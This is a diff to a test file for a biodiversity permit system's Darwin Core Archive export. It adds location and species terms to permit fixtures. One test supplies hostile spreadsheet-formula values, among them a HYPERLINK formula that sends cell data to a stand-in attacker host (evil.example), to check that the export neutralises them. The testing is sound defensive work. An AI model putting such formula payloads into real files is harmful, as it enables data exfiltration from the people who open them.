@@ -4,6 +4,7 @@ import { addDays, manilaDate } from '../../src/clock/manila-time.js';
 import { actOk, aMember, type Member } from '../helpers/actions.js';
 import { type AttachmentTestApp, createAttachmentTestApp } from '../helpers/attachments.js';
 import { testDialects } from '../helpers/databases.js';
+import { aLocation } from '../helpers/factories.js';
 import { anIssuedPermit, aSpecimenRow, type IssuedPermit, obligationOfType, submitAsAgency } from '../helpers/obligations.js';
 import { BASE_URL, permitEnv } from '../helpers/permits.js';
 import { json, type TestApp } from '../helpers/test-app.js';
@@ -71,7 +72,14 @@ describe.each(testDialects)('the Darwin Core Archive (%s)', (dialect) => {
   it(
     'parses back: meta.xml matches the columns, eml.xml names the authority, only accepted reports in the range and the user’s agencies, threatened species generalised, the public URI on every row',
     async () => {
-      const accepted = await anIssuedPermit(t, approver);
+      // The permit authorises both species at Los Baños (issue 28: the archive leaves out what the terms do not).
+      const accepted = await anIssuedPermit(t, approver, {
+        locations: [
+          aLocation({
+            species: [{ scientificName: 'Platymantis luzonensis' }, { scientificName: 'Pithecophaga jefferyi Ogilvie-Grant, 1896' }],
+          }),
+        ],
+      });
       const threatenedRow = aSpecimenRow({
         scientificName: 'Pithecophaga jefferyi Ogilvie-Grant, 1896',
         count: 1,
@@ -146,7 +154,7 @@ describe.each(testDialects)('the Darwin Core Archive (%s)', (dialect) => {
         basisOfRecord: 'MaterialSample',
         organismQuantity: '4',
         organismQuantityType: 'tissue samples',
-        eventDate: '2027-01-15',
+        eventDate: '2026-12-02',
         countryCode: 'PH',
         stateProvince: 'Laguna',
         municipality: 'Los Baños',
@@ -237,14 +245,21 @@ describe.each(testDialects)('the Darwin Core Archive (%s)', (dialect) => {
   it(
     'writes no cell a spreadsheet would run as a formula, keeps negative coordinates as numbers, and no separator inside a value',
     async () => {
-      const p = await anIssuedPermit(t, approver);
+      const hostileName = '=HYPERLINK("https://evil.example/?"&A1,"Platymantis")';
+      const hostilePlace = {
+        province: '-2+3 Laguna',
+        cityOrMunicipality: 'Los\u000bBaños\u000cof\u0085the\u2028Lake\u2029Region\u001eEnd',
+      };
+      // The agency's own submission named them, so the permit's terms authorise the row (the archive keeps it).
+      const p = await anIssuedPermit(t, approver, {
+        locations: [aLocation({ ...hostilePlace, species: [{ scientificName: hostileName }] })],
+      });
       const hostile = aSpecimenRow({
-        scientificName: '=HYPERLINK("https://evil.example/?"&A1,"Platymantis")',
+        scientificName: hostileName,
         unit: '+1 tissue samples',
         state: '@SUM(A1:A9)',
         location: {
-          province: '-2+3 Laguna',
-          cityOrMunicipality: 'Los\u000bBaños\u000cof\u0085the\u2028Lake\u2029Region\u001eEnd',
+          ...hostilePlace,
           barangay: ' =1+1',
           latitude: -12.5,
           longitude: -121.25,
